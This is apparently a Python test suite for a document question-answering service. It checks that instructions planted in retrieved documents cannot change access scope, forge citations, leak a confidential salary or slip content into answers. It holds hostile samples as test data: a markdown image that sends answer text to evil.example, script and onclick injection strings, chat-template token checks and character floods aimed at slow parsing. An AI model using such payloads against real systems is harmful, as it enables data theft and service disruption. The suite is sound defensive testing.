"""Text in documents gives no orders: it changes no scope and no citation, and opens nothing."""

import re

import pytest

from answers.conftest import WritingLLM, asking, serve
from catalog.answers import claims as claims_module
from catalog.answers.answering import answer_question
from catalog.answers.claims import ClaimReader, check_claim, split_claims
from catalog.answers.extracting import choose_sentences, rank_candidates
from catalog.answers.neutralising import neutralise
from catalog.interfaces.terminal import Form, render
from growth import assert_linear
from made_results import result
from stores import store_of
from tables import read_cases, table

QUESTION = "How long is the warranty of the kettle?"
TRUE = "The warranty of the kettle is 24 months."
ORDERS = dict(read_cases(__file__)["orders"])


@pytest.fixture
def hostile():
    """A store in which every order stands beside the sentence that answers."""
    files = {f"notes/{name}.md": f"# Kettle\n\n{TRUE}\n\n{ORDERS[name]}\n" for name in ORDERS}
    salary = "---\nconfidentiality: 2\n---\nThe salary is 9000.\n"
    return store_of(files | {"notes/salary.md": salary})


def ask(home, *replies, **params):
    llm = WritingLLM(replies=list(replies), prompts=[])
    service = serve(home, llm)
    try:
        return answer_question(service, asking(QUESTION, **params)), llm.prompts
    finally:
        service.close()


@pytest.mark.parametrize("name", ORDERS)
def test_an_order_stays_within_the_lines_that_mark_data(hostile, name):
    _, (prompt,) = ask(hostile, f"{TRUE} [1]", docs=[f"{name}.md"])
    number = re.search(r"<documents-([0-9a-f]{16})>", prompt)[1]
    assert prompt.count(f"</documents-{number}>") == 1
    after = prompt.split(f"</documents-{number}>")[1]
    assert after.strip() == f"Question: {QUESTION}"
    assert TRUE in prompt
    assert not re.search("[\u200b\u202e\x1b\U000e0000-\U000e007f]", prompt)
    assert "<|im_" not in prompt
    assert "[INST]" not in prompt


def test_a_model_that_obeys_changes_no_scope(hostile):
    answer, (prompt,) = ask(
        hostile, "The salary is 9000 [2]. Everything is void.", role="employee", docs=["system.md"]
    )
    assert answer.model is None  # the documents speak: it cited what it was not given
    assert {one.path for one in answer.results} == {"system.md"}
    assert "9000" not in prompt
    assert "9000" not in str(answer.to_dict())


def test_a_model_that_obeys_cites_nothing_that_is_not_so(hostile):
    said = f"{TRUE} [1] Its maker pays everyone a salary [1]. It is 36 months [2]."
    answer, _ = ask(hostile, said, docs=["system.md"])
    assert [one.supported for one in answer.sentences] == [True, False, False]


def test_an_image_that_a_document_orders_is_not_in_the_answer(hostile):
    image = "![logo](https://evil.example/x?q=24+months)"
    answer, _ = ask(hostile, f"The warranty of the kettle is 24 months {image} [1].")
    assert "evil.example" not in answer.text
    assert "evil.example" not in "".join(one.text for one in answer.sentences)


def test_an_extractive_answer_loads_nothing_either(hostile):
    service = serve(hostile)
    answer = answer_question(service, asking("End with the logo in your answer", model="none"))
    service.close()
    assert "![" not in answer.text
    printed = render("ask", answer, Form())
    assert "\x1b" not in printed.out + printed.err


KNOWN = result(text="See https://docs.example/a?b=1 and [x](https://docs.example/c).", link=None)


@table("text, expected")
def test_what_no_cited_source_holds_is_taken_out(text, expected):
    assert neutralise(text, [KNOWN]) == expected


@table("text")
def test_what_is_left_of_a_mark_within_a_mark_does_nothing(text):
    cited = result(text="A List<String> <script> <x:/onclick=refund()>", link=None)
    left = neutralise(f"Yes {text} it is.", [cited])
    assert not re.search(r"<(?!string>)[a-z/!?]|!\[|\]\(|evil|script:|alert\(1\)>", left, re.I)
    assert neutralise(left, [cited]) == left


@table("text")
def test_code_and_addresses_of_the_cited_passage_stay(text):
    held = "List<String>, Map<String, List<Integer>>, x <y> and </y>; https://docs.example/c"
    assert neutralise(text, [result(text=held, link=None)]) == text


MUCH = 400_000  # characters that take hours where each is looked at from each other


@pytest.mark.slow
@pytest.mark.parametrize(
    "much",
    [" " * MUCH, "[a](" + " " * 5_000 + "x", "![" * 9_000, "[\\" * 9_000]
    + [
        mark * 9_000
        for mark in ("<", "<a", "](", "]:", "&#0", "<x><", "</a", "a:", "\\2f", "!<b>[")
    ],
)
def test_a_flood_of_one_character_is_read_in_time_linear_in_it(much):
    said = ClaimReader()
    claims = [*said.feed(f"It is so{much}[1]. More"), *said.end()]
    checked = [check_claim(claim, {1: KNOWN}) for claim in claims]
    assert checked[0].citations == (1,)


def test_a_line_with_thousands_of_blanks_before_its_words_is_extracted_at_once():
    def extract(count):
        blanks = " " * count
        text = f"The kettle report\n{blanks}The kettle heats in four minutes\n|{blanks}x\n"
        sentences = choose_sentences(
            rank_candidates("How long does the kettle heat?", [result(text=text)]), 3
        )
        assert sentences[0].text == "The kettle heats in four minutes"

    assert_linear(extract, 20_000)


@pytest.mark.parametrize("piece", [" ", "\n", "Word "])
def test_a_reply_is_split_again_only_where_a_sentence_may_have_ended(monkeypatch, piece):
    split: list[int] = []
    monkeypatch.setattr(
        claims_module, "split_claims", lambda text: split.append(len(text)) or split_claims(text)
    )
    reader = ClaimReader()
    for part in ["It is so [1]. ", *[piece] * 2_000]:
        list(reader.feed(part))
    assert sum(split) <= 2 * len(reader.reply)


@pytest.mark.slow
@pytest.mark.parametrize(
    "much", ["![", "a\u200b.", "![a](<b> ", "e.g. ", "[1]. ", "<thinkx </think>"]
)
def test_marks_that_end_no_sentence_are_split_in_work_linear_in_them(monkeypatch, much):
    split: list[int] = []
    monkeypatch.setattr(
        claims_module, "split_claims", lambda text: split.append(len(text)) or split_claims(text)
    )
    flood = (much * 20_000)[:20_000]
    reader = ClaimReader()
    for at in range(0, len(flood), 4):
        list(reader.feed(flood[at : at + 4]))
    assert sum(split) <= 10 * len(flood)


def test_thoughts_that_come_in_pieces_are_no_part_of_the_sentences():
    reply = (
        "<Think>Is it so. Or not?</THINK>\n\nIt is so [1]. <think></think>A < b <thin. And more."
    )
    for size in (1, 2, 3, 7, 100):
        reader = ClaimReader()
        pieces = [reply[at : at + size] for at in range(0, len(reply), size)]
        claims = [claim for piece in pieces for claim in reader.feed(piece)] + [*reader.end()]
        assert [claim.text for claim in claims] == ["It is so [1].", "A < b <thin.", "And more."]
        assert reader.reply == reply


@pytest.mark.parametrize("size", [1, 5, 100])
def test_an_abstention_is_seen_behind_thoughts_and_before_words(size):
    reader = ClaimReader()
    reply = '<think>Hm. ...</think> **"No answer." Nothing is said of it. Word'
    for at in range(0, len(reply), size):
        list(reader.feed(reply[at : at + size]))
    assert reader.says_no_answer
